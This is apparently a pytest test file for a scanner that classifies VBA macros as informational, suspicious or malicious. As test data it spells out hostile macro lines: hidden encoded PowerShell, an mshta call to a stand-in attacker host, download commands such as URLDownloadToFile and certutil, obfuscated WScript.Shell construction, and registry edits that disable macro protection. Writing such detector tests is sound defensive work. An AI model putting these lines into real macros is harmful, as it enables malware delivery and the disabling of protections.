"""What macros do, by their words: speech on what worms write, silence on what companies do."""

import time

import pytest

from pratique.scanners.office.code import MOST, judge, seen

OPEN = "Private Sub Workbook_Open()\n{}\nEnd Sub\n"


def found(code, names=()):
    return {one.name: one.severity for one in seen(judge(code, names), "VBA")}


@pytest.mark.parametrize(
    "sub",
    [
        "Sub AutoOpen()",
        "sub  autoopen ()",
        "Public Function Auto_Open()",
        "Sub Document_Open()",
        "Private Sub Workbook_BeforeClose(Cancel As Boolean)",
        "Sub _\n Document_Close()",
        "Private Sub InkEdit1_GotFocus()",
        "Sub Web_DocumentComplete(x)",
        "Private Sub Workbook_SheetActivate(ByVal Sh As Object)",
        "Sub OnSlideShowPageChange(ByVal w)",
    ],
)
def test_what_runs_by_itself_is_told_and_is_no_harm(sub):
    assert found(f"{sub}\nMsgBox 1\nEnd Sub") == {"Office.AutoExec": "information"}


@pytest.mark.parametrize(
    "code",
    [
        "Sub Work()\nx = 1\nEnd Sub",
        "Sub Button1_Click()\nEnd Sub",
        "' Sub AutoOpen()\nx = 1",
        'x = "Sub AutoOpen in a text"' and "Rem Sub AutoOpen()",
        "Call AutoOpen",
        "",
    ],
)
def test_what_does_not_run_by_itself_is_not(code):
    assert found(code) == {}


def test_a_module_of_such_a_name_runs_its_main():
    assert found("Sub Main()\nEnd Sub", ["AutoExec"]) == {"Office.AutoExec": "information"}


# What companies write: it opens, saves, copies, calls, makes objects, keeps time.
HARMLESS = [
    'ThisWorkbook.Sheets("Start").Activate',
    'Call Refresh\nThisWorkbook.SaveAs "C:\\reports\\a.xlsx"',
    'Set d = CreateObject("Scripting.Dictionary")\nKill "C:\\temp\\old.txt"',
    'Open "C:\\log.txt" For Append As #1\nPrint #1, Now\nClose #1',
    'Set o = CreateObject("Outlook.Application")\no.CreateItem(0).Display',
    'Application.OnTime Now + TimeValue("00:00:05"), "Tick"',
    'Declare PtrSafe Sub CopyMemory Lib "kernel32" Alias "RtlMoveMemory" (a As Any, b As Any)',
    "' Shell, WScript.Shell and powershell stand in a comment",
    "MsgBox Chr(228) & Chr(246) & Chr(13)",
    'ActiveSheet.Range("A1") = "shelly"',
]


@pytest.mark.parametrize("line", HARMLESS)
def test_what_companies_write_is_nothing_but_that_it_runs_by_itself(line):
    assert found(OPEN.format(line)) == {"Office.AutoExec": "information"}


STARTS = [
    'Shell "calc.exe"',
    'x = Shell("calc.exe", 1)',
    'CreateObject("WScript.Shell").Run "calc"',
    'CreateObject("WScr" & "ipt.Sh" + "ell").Run "calc"',
    'GetObject("winmgmts:").Get("Win32_Process").Create "calc"',
    'CreateObject(StrReverse("llehS.tpircSW")).Run "calc"',
    'CreateObject(Chr(87) & Chr(83) & "cript" & ChrW$(46) & "Shell").Run "x"',
    'CreateObject("Shell.Application").ShellExecute "calc"',
    'VBA.Shell "calc"',
    'o.ShellExecute "calc"',
    'c = "cmd.exe /c calc"',
    'c = "mshta about:x"',
    "Sh _\n ell = 1: She = 2: Shell a",
]


@pytest.mark.parametrize("line", STARTS)
def test_what_starts_programs_is_told(line):
    assert found(f"Sub Work()\n{line}\nEnd Sub")["Office.MacroExecutes"] == "information"
    assert found(OPEN.format(line))["Office.MacroExecutes"] == "suspicious"


@pytest.mark.parametrize(
    "line",
    [
        'Shell "powershell -w hidden -enc SQBFAFgA"',
        'x = "powershell.exe -nop -c iex"',
        'Shell "cmd /c start mshta http://attacker.example/a.hta"',
    ],
)
def test_what_hides_them_and_runs_by_itself_is_malicious(line):
    assert found(OPEN.format(line))["Office.MacroExecutes"] == "malicious"
    assert found(f"Sub Work()\n{line}\nEnd Sub")["Office.MacroExecutes"] == "information"


FETCHES = [
    'URLDownloadToFile 0, "http://a.example/b.exe", "b.exe", 0, 0',
    'CreateObject("MSXML2.XMLHTTP")',
    'CreateObject("MSXML2.ServerXMLHTTP.6.0")',
    'CreateObject("WinHttp.WinHttpRequest.5.1")',
    'x = "(New-Object Net.WebClient).DownloadFile"',
    'x = "certutil -urlcache -f http://a.example"',
]


@pytest.mark.parametrize("line", FETCHES)
def test_what_fetches_files_is_told_and_is_grave_with_what_starts_them(line):
    name = "Office.MacroDownloads"
    assert found(OPEN.format(line))[name] == "information"
    assert found(f"Sub Work()\n{line}\nShell a\nEnd Sub")[name] == "suspicious"
    assert found(OPEN.format(f"{line}\nShell a"))[name] == "malicious"


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ('Declare Function VirtualAlloc Lib "kernel32" ()', "Office.MacroInjects"),
        ('Declare Function CT Lib "kernel32" Alias "CreateThread" ()', "Office.MacroInjects"),
        ('r.RegWrite "HKCU\\...\\Security\\AccessVBOM", 1', "Office.MacroDisarms"),
        ("Options.VirusProtection = False", "Office.MacroDisarms"),
    ],
)
def test_machine_code_and_protection_turned_off_are_told(line, name):
    assert found(line)[name] == "suspicious"
    assert found(OPEN.format("x = 1") + line)[name] == "malicious"


def test_hidden_words_are_told_of_what_runs_by_itself_and_acts():
    letters = " & ".join(f"Chr({number})" for number in range(200, 240))
    code = OPEN.format(f"CreateObject({letters}).Run")
    assert found(code)["Office.MacroObfuscated"] == "suspicious"
    assert "Office.MacroObfuscated" not in found(code.replace("Workbook_Open", "Work"))
    few = OPEN.format(f"CreateObject({letters.rpartition(' & ')[0]}).Run")
    assert "Office.MacroObfuscated" not in found(few)


def test_a_note_says_what_was_seen():
    (auto, starts) = seen(judge(OPEN.format('Shell "calc"')), "Macros/VBA")
    assert auto.note.startswith("Macros/VBA: Workbook_Open; mraptor A-X (")
    assert starts.note == "Macros/VBA: Shell on Workbook_Open"


SLOW = {
    "open": "Open " * 200_000,
    "declare": "Declare " * 125_000,
    "quotes": '"' * 1_000_000,
    "joined": '" & ' * 250_000,
    "comments": "'" * 1_000_000,
    "words": "a_" * 500_000,
    "letters": "Chr(1)" * 160_000,
    "continued": " _\n" * 333_000,
    "strings": '"' + "Aa" * 500_000,
    "powershell": "powershell -" * 80_000,
    "sub": "Sub " * 250_000,
    "reverse": 'StrReverse("' * 80_000,
    "blanks": "Rem" + " " * 1_000_000,
}


@pytest.mark.slow
@pytest.mark.parametrize("what", SLOW)
def test_no_code_takes_more_than_its_length(what):
    begun = time.process_time()
    judge(SLOW[what])
    assert time.process_time() - begun < 4  # of a megabyte: mraptor alone would take hours


@pytest.mark.slow
def test_so_much_is_looked_at_and_no_more():
    shell = "\nShell a"
    line = "x = 1: y = 2 ' say\n"
    code = (line * (MOST // len(line) + 1))[: MOST - len(shell)]
    assert judge(code + shell).starts
    assert not judge(code + " " * len(shell) + shell).starts


@pytest.mark.parametrize(
    "code",
    [
        'Sub AutoOpen()\n[\'] : Shell "cmd /c a"\nEnd Sub',
        'Sub _                    \nAutoOpen()\nShell "cmd /c a"\nEnd Sub',
        f'Sub{" " * 99}AutoOpen()\nShell "cmd /c a"\nEnd Sub',
        'Sub AutoOpen()\nx = "\' \nShell "cmd /c a"\nEnd Sub',
        'Sub AutoOpen()\nCreateObject(Chr(&H57) & Chr( &h73& ) & "cript.Shell").Run x\nEnd Sub',
        'Sub AutoOpen()\nGetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Run x\nEnd Sub',
    ],
)
def test_a_start_is_seen_however_it_is_written(code):
    found = {one.name: one.severity for one in seen(judge(code), "a")}
    assert found["Office.MacroExecutes"] == "suspicious"
